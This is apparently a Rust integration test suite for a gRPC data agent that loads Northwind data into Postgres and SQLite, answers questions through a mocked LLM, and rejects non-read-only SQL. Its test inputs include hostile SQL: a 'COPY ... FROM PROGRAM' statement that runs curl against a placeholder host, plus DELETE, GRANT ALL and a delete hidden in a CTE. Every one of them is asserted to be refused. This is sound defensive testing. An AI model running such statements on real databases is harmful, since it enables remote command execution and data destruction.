//! The data agent over gRPC: Northwind on Postgres and SQLite, refusals, answers.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use agentmesh_agent_testing as helpers;

use agentmesh_agent_runtime::Peers;
use agentmesh_mock_llm::{MockConfig, Rule};
use agentmesh_proto::v1::agent_client::AgentClient;
use agentmesh_proto::v1::data_client::DataClient;
use agentmesh_proto::v1::*;
use agentmesh_state::{testing, State, StateConfig};
use helpers::*;
use tonic::transport::Channel;

const ORDER_DETAILS: &str = "../../../shared/data/northwind/order_details.csv";
const PG_REVENUE: &str =
    "SELECT round(sum(unit_price*quantity*(1-discount))::numeric, 2) FROM order_details";
const LITE_REVENUE: &str =
    "SELECT round(sum(unit_price*quantity*(1-discount)), 2) FROM order_details";

fn order_details() -> Vec<u8> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(ORDER_DETAILS);
    std::fs::read(path).unwrap()
}

async fn start_data(config: MockConfig, state: State, dir: tempfile::TempDir) -> Running {
    let serve = |ctx, listener, stop: tokio::sync::oneshot::Receiver<()>| {
        agentmesh_data::serve(ctx, listener, async move {
            let _ = stop.await;
        })
    };
    start(serve, config, state, dir, Peers::default()).await
}

async fn clients(url: &str) -> (DataClient<Channel>, AgentClient<Channel>) {
    let channel = Channel::from_shared(url.to_string())
        .unwrap()
        .connect()
        .await
        .unwrap();
    (DataClient::new(channel.clone()), AgentClient::new(channel))
}

async fn load_order_details(data: &mut DataClient<Channel>) -> Dataset {
    let req = RegisterDatasetRequest {
        name: "order_details".into(),
        csv: order_details(),
    };
    data.register_dataset(req).await.unwrap().into_inner()
}

/// The single value of a one-row, one-column result, as a number.
fn single_number(resp: &DataQueryResponse) -> f64 {
    let rows: serde_json::Value = serde_json::from_str(&resp.rows_json).unwrap();
    let value = &rows[0][0];
    value
        .as_f64()
        .or_else(|| value.as_str().and_then(|s| s.parse().ok()))
        .unwrap()
}

async fn query(
    data: &mut DataClient<Channel>,
    sql: &str,
) -> Result<DataQueryResponse, tonic::Status> {
    let req = DataQueryRequest {
        sql: sql.into(),
        max_rows: 0,
    };
    data.query(req).await.map(|r| r.into_inner())
}

#[tokio::test]
async fn revenue_on_postgres_and_delete_is_refused() {
    let db = testing::fresh_postgres().await;
    let config = StateConfig {
        database_url: db.url.clone(),
        redis_url: None,
        redis_prefix: testing::fresh_redis_prefix(),
    };
    let state = State::connect(&config).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let agent = start_data(MockConfig::new(MODEL), state, dir).await;
    let (mut data, _) = clients(&agent.url).await;

    let dataset = load_order_details(&mut data).await;
    assert_eq!(dataset.row_count, 2155);
    let types: Vec<_> = dataset
        .columns
        .iter()
        .map(|c| (c.name.as_str(), c.r#type.as_str()))
        .collect();
    assert_eq!(
        types,
        [
            ("order_id", "integer"),
            ("product_id", "integer"),
            ("unit_price", "decimal"),
            ("quantity", "integer"),
            ("discount", "decimal"),
        ]
    );

    let revenue = query(&mut data, PG_REVENUE).await.unwrap();
    assert!(
        (single_number(&revenue) - 1_265_793.04).abs() < 1e-6,
        "{}",
        revenue.rows_json
    );

    let status = query(&mut data, "DELETE FROM order_details")
        .await
        .unwrap_err();
    assert_eq!(status.code(), tonic::Code::InvalidArgument);
    assert_eq!(meta(&status, "x-agentmesh-error-code"), "sql_not_read_only");
    assert_eq!(meta(&status, "x-agentmesh-error-param"), "sql");
    let count = query(&mut data, "SELECT count(*) FROM order_details")
        .await
        .unwrap();
    assert_eq!(single_number(&count), 2155.0, "nothing was deleted");

    drop(agent);
    db.cleanup().await;
}

#[tokio::test]
async fn revenue_on_sqlite_and_refusals_carry_their_codes() {
    let (state, dir) = sqlite_state().await;
    let agent = start_data(MockConfig::new(MODEL), state, dir).await;
    let (mut data, _) = clients(&agent.url).await;
    load_order_details(&mut data).await;

    let revenue = query(&mut data, LITE_REVENUE).await.unwrap();
    assert!(
        (single_number(&revenue) - 1_265_793.04).abs() < 1e-6,
        "{}",
        revenue.rows_json
    );

    let capped = query(&mut data, "SELECT * FROM order_details")
        .await
        .unwrap();
    assert_eq!(capped.row_count, 1000);
    assert!(capped.truncated);

    let cases = [
        ("DELETE FROM order_details", "sql_not_read_only"),
        ("SELECT 1; SELECT 2", "sql_multiple_statements"),
        ("SELECT * FROM customers", "sql_unknown_table"),
    ];
    for (sql, code) in cases {
        let status = query(&mut data, sql).await.unwrap_err();
        assert_eq!(meta(&status, "x-agentmesh-error-code"), code, "{sql}");
    }

    let listed = data
        .list_datasets(ListDatasetsRequest {})
        .await
        .unwrap()
        .into_inner();
    assert_eq!(listed.datasets.len(), 1);
}

#[tokio::test]
async fn bad_csv_uploads_name_the_problem() {
    let (state, dir) = sqlite_state().await;
    let agent = start_data(MockConfig::new(MODEL), state, dir).await;
    let (mut data, _) = clients(&agent.url).await;
    let register = |name: &str, csv: &[u8]| RegisterDatasetRequest {
        name: name.into(),
        csv: csv.to_vec(),
    };

    let status = data
        .register_dataset(register("t", b"a,b\n1,2\n3\n"))
        .await
        .unwrap_err();
    assert!(status.message().contains("line 3"), "{}", status.message());
    assert_eq!(meta(&status, "x-agentmesh-error-param"), "csv");
    let status = data.register_dataset(register("t", b"")).await.unwrap_err();
    assert!(status.message().contains("empty"));
    let status = data
        .register_dataset(register("t", b"\xff\xfe\x00a"))
        .await
        .unwrap_err();
    assert_eq!(status.code(), tonic::Code::InvalidArgument);
    let status = data
        .register_dataset(register("Bad Name", b"a\n1\n"))
        .await
        .unwrap_err();
    assert_eq!(meta(&status, "x-agentmesh-error-param"), "name");
}

#[tokio::test]
async fn question_gets_sql_rows_and_summary_with_one_retry() {
    let sql_rule = |reply: &str| Rule {
        system_contains: Some("read-only".into()),
        ..Rule::reply(reply)
    };
    let config = MockConfig::new(MODEL)
        .with_rule(sql_rule("```sql\nDELETE FROM order_details\n```").times(1))
        .with_rule(sql_rule(
            "```sql\nSELECT count(*) AS lines FROM order_details\n```",
        ))
        .with_rule(Rule {
            system_contains: Some("summarise".into()),
            ..Rule::reply("There are 2155 order lines.")
        });
    let (state, dir) = sqlite_state().await;
    let agent = start_data(config, state, dir).await;
    let (mut data, mut chat) = clients(&agent.url).await;
    load_order_details(&mut data).await;

    let request = chat_request(vec![user("How many order lines are there?")], "");
    let (events, error) = collect(chat.chat(request).await.unwrap().into_inner()).await;
    assert!(error.is_none(), "{error:?}");
    let answer = text(&events);
    assert!(
        answer.contains("```sql\nSELECT count(*) AS lines FROM order_details\n```"),
        "{answer}"
    );
    assert!(answer.contains("| lines |\n| --- |\n| 2155 |"), "{answer}");
    assert!(answer.ends_with("There are 2155 order lines."), "{answer}");

    let log = mock_log(&agent.mock);
    assert_eq!(log.len(), 3, "sql, corrected sql, summary");
    assert!(
        log[0].contains("order_id integer") && log[0].contains("Sample rows"),
        "{}",
        log[0]
    );
    assert!(
        log[1].contains("That query failed") && log[1].contains("only read-only queries"),
        "{}",
        log[1]
    );
}

#[tokio::test]
async fn typed_sql_runs_directly_and_bad_sql_is_refused() {
    let (state, dir) = sqlite_state().await;
    let agent = start_data(MockConfig::new(MODEL), state, dir).await;
    let (mut data, mut chat) = clients(&agent.url).await;
    load_order_details(&mut data).await;

    let request = chat_request(vec![user(LITE_REVENUE)], "");
    let (events, error) = collect(chat.chat(request).await.unwrap().into_inner()).await;
    assert!(error.is_none(), "{error:?}");
    assert!(text(&events).contains("1265793.04"), "{}", text(&events));
    assert!(agent.mock.requests().is_empty());

    let request = chat_request(
        vec![user("with x as (delete from order_details) select 1")],
        "",
    );
    let (events, error) = collect(chat.chat(request).await.unwrap().into_inner()).await;
    assert!(events.is_empty());
    let status = error.expect("refused");
    assert_eq!(meta(&status, "x-agentmesh-error-code"), "sql_not_read_only");
}

const PAYMENTS: &str = "id,customer,paid,paid_on,note\n\
1,ALFKI,0.10,1997-01-01,first\n\
2,ANATR,0.20,1996-12-31,1997-01-05\n\
3,ALFKI,19.99,,n/a\n\
4,BONAP,1000000.01,1998-02-01,\n";

fn rows_of(resp: &DataQueryResponse) -> serde_json::Value {
    serde_json::from_str(&resp.rows_json).unwrap()
}

/// A CSV with money and dates: typed decimal and date, exact sums, date filters and
/// date order, a column mixing dates and words kept as text, empty values NULL; the
/// model's schema names the types.
async fn money_and_dates(state: State, dir: tempfile::TempDir) {
    let config = MockConfig::new(MODEL)
        .with_rule(Rule {
            system_contains: Some("read-only".into()),
            ..Rule::reply("```sql\nSELECT sum(paid) FROM payments\n```")
        })
        .with_rule(Rule {
            system_contains: Some("summarise".into()),
            ..Rule::reply("Paid in total.")
        });
    let agent = start_data(config, state, dir).await;
    let (mut data, mut chat) = clients(&agent.url).await;
    let req = RegisterDatasetRequest {
        name: "payments".into(),
        csv: PAYMENTS.as_bytes().to_vec(),
    };
    let dataset = data.register_dataset(req).await.unwrap().into_inner();
    let types: Vec<_> = dataset.columns.iter().map(|c| c.r#type.as_str()).collect();
    assert_eq!(types, ["integer", "text", "decimal", "date", "text"]);

    let sum = query(&mut data, "SELECT sum(paid) FROM payments")
        .await
        .unwrap();
    assert_eq!(rows_of(&sum), serde_json::json!([[1000020.3]]));
    let sql = "SELECT id, paid_on FROM payments WHERE paid_on >= '1997-01-01' ORDER BY paid_on";
    let since = query(&mut data, sql).await.unwrap();
    let want = serde_json::json!([[1, "1997-01-01"], [4, "1998-02-01"]]);
    assert_eq!(rows_of(&since), want);
    let sql = "SELECT id FROM payments WHERE paid_on IS NOT NULL ORDER BY paid_on DESC";
    let ordered = query(&mut data, sql).await.unwrap();
    assert_eq!(rows_of(&ordered), serde_json::json!([[4], [1], [2]]));
    let sql = "SELECT count(*) FROM payments WHERE paid_on IS NULL OR note IS NULL";
    let nulls = query(&mut data, sql).await.unwrap();
    assert_eq!(rows_of(&nulls), serde_json::json!([[2]]));
    let sql = "SELECT note FROM payments WHERE id = 2";
    let note = query(&mut data, sql).await.unwrap();
    assert_eq!(rows_of(&note), serde_json::json!([["1997-01-05"]]));

    let request = chat_request(vec![user("How much was paid?")], "");
    let (events, error) = collect(chat.chat(request).await.unwrap().into_inner()).await;
    assert!(error.is_none(), "{error:?}");
    assert!(text(&events).contains("| 1000020.3 |"), "{}", text(&events));
    let log = mock_log(&agent.mock);
    assert!(
        log[0].contains("paid decimal") && log[0].contains("paid_on date"),
        "{}",
        log[0]
    );
    assert!(log[0].contains("| 1997-01-01 |"), "{}", log[0]);
}

#[tokio::test]
async fn money_and_dates_on_sqlite() {
    let (state, dir) = sqlite_state().await;
    money_and_dates(state, dir).await;
}

#[tokio::test]
async fn money_and_dates_on_postgres() {
    let db = testing::fresh_postgres().await;
    let config = StateConfig {
        database_url: db.url.clone(),
        redis_url: None,
        redis_prefix: testing::fresh_redis_prefix(),
    };
    let state = State::connect(&config).await.unwrap();
    money_and_dates(state, tempfile::tempdir().unwrap()).await;
    db.cleanup().await;
}

const DUMP: &str = "../../../shared/data/northwind/northwind-postgres.sql";

fn northwind_dump() -> Vec<u8> {
    std::fs::read(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(DUMP)).unwrap()
}

async fn table_names(data: &mut DataClient<Channel>) -> Vec<String> {
    let listed = data.list_datasets(ListDatasetsRequest {}).await.unwrap();
    listed
        .into_inner()
        .datasets
        .into_iter()
        .map(|d| d.name)
        .collect()
}

/// The original Northwind dump: every table stored under its own name with mapped
/// types, rows counted, a join and the revenue exact; hostile dumps refused whole.
async fn northwind_dump_loads(state: State, backend: &str) {
    let agent = start_data(MockConfig::new(MODEL), state, tempfile::tempdir().unwrap()).await;
    let (mut data, _) = clients(&agent.url).await;

    for statement in [
        "DELETE FROM orders;",
        "COPY orders FROM PROGRAM 'curl http://example.com/x';",
        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql;",
        "GRANT ALL ON orders TO PUBLIC;",
    ] {
        let mut dump = northwind_dump();
        dump.extend_from_slice(format!("\n{statement}\n").as_bytes());
        let lines = dump.iter().filter(|b| **b == b'\n').count();
        let req = LoadDumpRequest { sql: dump };
        let status = data.load_dump(req).await.unwrap_err();
        assert_eq!(status.code(), tonic::Code::InvalidArgument, "{statement}");
        assert_eq!(meta(&status, "x-agentmesh-http-status"), "400");
        assert_eq!(meta(&status, "x-agentmesh-error-param"), "dump");
        let kind = statement.split(' ').take(2).collect::<Vec<_>>();
        let kind = match kind[0] {
            "CREATE" => kind.join(" "),
            _ => kind[0].to_string(),
        };
        let want = format!("{kind} on line {lines} is not allowed");
        assert!(status.message().contains(&want), "{}", status.message());
        assert!(
            table_names(&mut data).await.is_empty(),
            "{statement}: stored"
        );
    }

    let req = LoadDumpRequest {
        sql: northwind_dump(),
    };
    let loaded = data.load_dump(req).await.unwrap().into_inner().datasets;
    assert_eq!(loaded.len(), 14);
    let orders = loaded.iter().find(|d| d.name == "orders").unwrap();
    let types: Vec<_> = orders
        .columns
        .iter()
        .map(|c| (c.name.as_str(), c.r#type.as_str()))
        .collect();
    assert!(types.contains(&("order_date", "date")), "{types:?}");
    assert!(types.contains(&("freight", "decimal")), "{types:?}");
    assert_eq!(table_names(&mut data).await.len(), 14);

    let reader = data.clone();
    let count = |sql: &'static str| {
        let mut data = reader.clone();
        async move { single_number(&query(&mut data, sql).await.unwrap()) }
    };
    assert_eq!(count("SELECT count(*) FROM orders").await, 830.0);
    assert_eq!(count("SELECT count(*) FROM order_details").await, 2155.0);
    let join = "SELECT c.country, count(DISTINCT o.order_id) AS orders, \
                round(sum(d.unit_price * d.quantity * (1 - d.discount)), 2) AS revenue \
                FROM orders o JOIN order_details d ON d.order_id = o.order_id \
                JOIN customers c ON c.customer_id = o.customer_id \
                WHERE o.order_date >= '1997-01-01' \
                GROUP BY c.country ORDER BY revenue DESC, c.country LIMIT 3";
    let top = query(&mut data, join).await.unwrap();
    let rows = rows_of(&top);
    assert_eq!(rows.as_array().unwrap().len(), 3, "{backend}: {rows}");
    assert_eq!(rows[0][0], "USA", "{backend}: {rows}");
    let revenue = if backend == "postgres" {
        PG_REVENUE
    } else {
        LITE_REVENUE
    };
    let revenue = query(&mut data, revenue).await.unwrap();
    assert_eq!(
        rows_of(&revenue),
        serde_json::json!([[1265793.04]]),
        "{backend}"
    );
    if backend == "postgres" {
        let exact = "SELECT sum(unit_price * quantity * (1 - discount))::text FROM order_details";
        let text = rows_of(&query(&mut data, exact).await.unwrap());
        let text = text[0][0].as_str().unwrap().to_string();
        assert!(text.starts_with("1265793.0"), "{text}");
        assert_eq!(
            text.len(),
            "1265793.0390".len(),
            "exact to four places: {text}"
        );
    }

    let mut bad = northwind_dump();
    bad.extend_from_slice(b"\nINSERT INTO orders (order_id) VALUES ('x');\n");
    let status = data
        .load_dump(LoadDumpRequest { sql: bad })
        .await
        .unwrap_err();
    assert!(
        status.message().contains("not an integer"),
        "{}",
        status.message()
    );
    assert_eq!(
        count("SELECT count(*) FROM orders").await,
        830.0,
        "left as it was"
    );
}

#[tokio::test]
async fn northwind_dump_on_sqlite() {
    let (state, _dir) = sqlite_state().await;
    northwind_dump_loads(state, "sqlite").await;
}

#[tokio::test]
async fn northwind_dump_on_postgres() {
    let db = testing::fresh_postgres().await;
    let config = StateConfig {
        database_url: db.url.clone(),
        redis_url: None,
        redis_prefix: testing::fresh_redis_prefix(),
    };
    let state = State::connect(&config).await.unwrap();
    northwind_dump_loads(state, "postgres").await;
    db.cleanup().await;
}

mod hostile;

#[tokio::test]
async fn hostile_sql_is_refused_or_harmless_on_sqlite() {
    let (state, _dir) = sqlite_state().await;
    hostile::run_table(state, "sqlite").await;
}

#[tokio::test]
async fn hostile_sql_is_refused_or_harmless_on_postgres() {
    let db = testing::fresh_postgres().await;
    let config = StateConfig {
        database_url: db.url.clone(),
        redis_url: None,
        redis_prefix: testing::fresh_redis_prefix(),
    };
    let state = State::connect(&config).await.unwrap();
    hostile::run_table(state, "postgres").await;
    db.cleanup().await;
}

/// A provider that never answers: the caller's deadline (sent as `grpc-timeout`) bounds
/// the agent's LLM call, so the answer ends in a timeout error within about that long,
/// not at the LLM client's own total limit (two minutes).
#[tokio::test]
async fn the_callers_deadline_bounds_the_llm_call() {
    let config = MockConfig::new(MODEL).with_rule(Rule {
        hang: true,
        ..Rule::reply("never")
    });
    let (state, dir) = sqlite_state().await;
    let agent = start_data(config, state, dir).await;
    let (mut data, mut chat) = clients(&agent.url).await;
    load_order_details(&mut data).await;

    let started = std::time::Instant::now();
    let mut request = tonic::Request::new(chat_request(vec![user("How many lines?")], ""));
    request.set_timeout(std::time::Duration::from_secs(2));
    let outcome = match chat.chat(request).await {
        Ok(stream) => collect(stream.into_inner()).await.1,
        Err(status) => Some(status),
    };
    let elapsed = started.elapsed();
    let status = outcome.expect("a hanging provider cannot produce an answer");
    assert!(
        elapsed < std::time::Duration::from_secs(10),
        "took {elapsed:?}: {status:?}"
    );
}
